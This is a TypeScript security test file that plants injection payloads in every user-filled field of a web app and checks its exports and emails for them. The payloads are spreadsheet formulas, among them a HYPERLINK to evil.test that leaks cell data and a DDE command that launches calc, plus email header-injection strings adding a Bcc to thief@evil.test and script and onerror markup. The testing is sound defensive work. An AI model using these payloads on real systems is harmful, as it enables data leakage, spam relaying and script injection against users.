/**
 * Formula injection in exports, and header or markup injection in emails, through every field that people
 * fill in.
 */
import { randomUUID } from 'node:crypto';
import { eq } from 'drizzle-orm';
import { users } from '#server/core/accounts/tables.ts';
import { readCsv } from '#server/platform/csv.ts';
import { operationsOf } from '#test/documented.ts';
import { fullHousehold } from '#test/full-household.ts';
import { openHotels } from '#test/hotel-requests.ts';
import { signedInAdmin, signedInAs, type Browser } from '#test/world.ts';
import { readZip } from '#test/zip.ts';
import { ask } from './client.ts';
import type { Attack, Target } from './target.ts';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.test?"&A1)',
  '=cmd|’/C calc’!A0',
];
const BROKEN = 'x\r\nBcc: thief@evil.test\r\nX-Evil: 1\r\n\r\n<script>alert(1)</script>';
const MARKUP = '<img src=x onerror=alert(1)>';

/** Part of an email address or a PDF, which don't accept such text. */
const isPlain = (what: string) => / (text|mail)$/.test(what);

/** A cell that a spreadsheet would run as a formula. Plain numbers may be negative. */
const isFormula = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?[\d.,]+$/.test(cell);

export async function formulaFaults(what: string, text: string): Promise<string[]> {
  const faults: string[] = [];
  for await (const { fields } of readCsv([text]))
    for (const cell of fields)
      if (isFormula(cell)) faults.push(`${what}: a cell runs: ${JSON.stringify(cell)}`);
  return faults;
}

async function workbookFaults(what: string, bytes: Buffer): Promise<string[]> {
  const parts = await readZip(bytes);
  return [...parts]
    .filter(([name, content]) => name.endsWith('.xml') && /<f[\s>]/.test(content.toString()))
    .map(([name]) => `${what}: ${name} has a formula.`);
}

async function plant({ world }: Target) {
  let n = 0;
  const household = await fullHousehold(world, (what) =>
    isPlain(what) ? 'plain' : (FORMULAS[n++ % FORMULAS.length] ?? '=1'),
  );
  await world.db.update(users).set({ name: '=1+1' }).where(eq(users.id, household.me.user.id));
  for (const formula of FORMULAS) {
    await household.me.post(`${household.api}/inventory`, {
      name: formula,
      category: 'Other',
      estValue: 1,
      room: formula,
      notes: formula,
    });
    await world.visitor().post('/api/waitlist', {
      address: `${formula}, Paradise, CA 95969`,
      email: `${randomUUID()}@example.com`,
      source: 'pricing',
    });
    await world.visitor().post('/api/contact', {
      firstName: formula,
      lastName: formula,
      email: `${randomUUID()}@example.com`,
      subject: formula,
      message: formula,
    });
  }
  return household;
}

async function exportsOf(target: Target): Promise<string[]> {
  const household = await plant(target);
  const { world, port } = target;
  const { operations } = await operationsOf(world);
  const admin = await signedInAdmin(world);
  const finance = await signedInAs(world, 'FINANCE');
  const faults: string[] = [];
  let read = 0;
  const judge = async (who: Browser, path: string) => {
    const cookie = [...who.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
    const reply = await ask(port, { path, headers: { cookie } });
    const type = String(reply.headers['content-type']);
    if (reply.status !== 200) return false;
    read += 1;
    if (type.startsWith('text/csv')) faults.push(...(await formulaFaults(path, reply.text)));
    else if (type.includes('spreadsheetml')) faults.push(...(await workbookFaults(path, reply.bytes)));
    else if (type.includes('zip'))
      for (const [name, content] of await readZip(reply.bytes))
        if (name.endsWith('.csv'))
          faults.push(...(await formulaFaults(`${path} ${name}`, content.toString())));
    return true;
  };
  const listed = operations.filter((o) => o.method === 'GET' && o.path.endsWith('/export'));
  for (const { path, 'x-access': access } of listed) {
    const url = path.replace('{homeId}', household.ids.homeId);
    if (access === 'member')
      for (const format of ['csv', 'xlsx', 'pdf']) await judge(household.me, `${url}?format=${format}`);
    else if (!((await judge(admin, url)) || (await judge(finance, url))))
      faults.push(`${path} could not be read.`);
  }
  const started = await household.me.post('/api/account/export', {});
  const { url } = started.body as { url?: string };
  if (!url || !(await judge(household.me, url)))
    faults.push(`The member's own data could not be read: ${started.text}`);
  if (read < 10) faults.push(`Only ${read} exports were read.`);
  return [...faults, ...(await guestLists(target))];
}

/** The guest list that a hotel downloads. */
async function guestLists({ world }: Target): Promise<string[]> {
  const hotels = openHotels(world);
  const { t, email, me } = await hotels.withRequest();
  await world.db
    .update(users)
    .set({ name: '=HYPERLINK("http://evil.test")' })
    .where(eq(users.id, me.user.id));
  const desk = world.visitor();
  await desk.post('/api/partners/link/confirm', { t, number: '=1+1' });
  await hotels.enterCode(desk, t, email);
  const { status, text } = await desk.get(`/partner/requests/guests.csv?t=${t}`);
  if (status !== 200) return [`The list of guests could not be read: ${status} ${text.slice(0, 100)}`];
  return formulaFaults('guests.csv', text);
}

async function emails(target: Target): Promise<string[]> {
  const { world, mails } = target;
  const faults: string[] = [];
  const household = await fullHousehold(world, (what) => (isPlain(what) ? 'plain' : MARKUP));
  await household.me.patch('/api/account', { name: BROKEN });
  await world.db.update(users).set({ name: MARKUP }).where(eq(users.id, household.me.user.id));
  const odd = [BROKEN, MARKUP, '“’\u2028Bcc: thief@evil.test'];
  for (const text of odd) {
    const email = `${randomUUID()}@example.com`;
    const contact = { firstName: text, lastName: text, email, subject: text, message: text };
    await world.visitor().post('/api/contact', contact);
    await world.visitor().post('/api/waitlist', { address: text, email, source: 'pricing' });
    for (const address of [
      `a@example.com\r\nBcc: thief@evil.test`,
      `a@example.com,thief@evil.test`,
      `"thief@evil.test" <a@example.com>`,
    ]) {
      await world.visitor().post('/api/auth/code', { email: address });
      await household.me.post(`${household.api}/household/invitations`, { email: address, role: 'viewer' });
    }
    await household.me.post(`${household.api}/household/invitations`, { email, role: 'viewer', name: text });
  }
  await world.runJobs();
  for (const { to, raw, parsed } of await mails()) {
    const head = raw.slice(0, raw.indexOf('\n\n'));
    if (to.some((address) => /evil\.test/.test(address)) || /^(bcc|x-evil):/im.test(head))
      faults.push(`An email to ${to.join()} has a header of the caller's: ${parsed.subject}`);
    if (/<script|<img[^>]+onerror/i.test(parsed.html ?? ''))
      faults.push(`An email has markup of the caller's: ${parsed.subject}`);
    if (to.length !== 1) faults.push(`An email has ${to.length} recipients: ${parsed.subject}`);
  }
  if ((await mails()).length < 5) faults.push('Hardly any email was sent.');
  return faults;
}

export const formulas: Attack = { name: 'formulas in every export', run: exportsOf };
export const emailHeaders: Attack = { name: 'headers and markup in every email', run: emails };
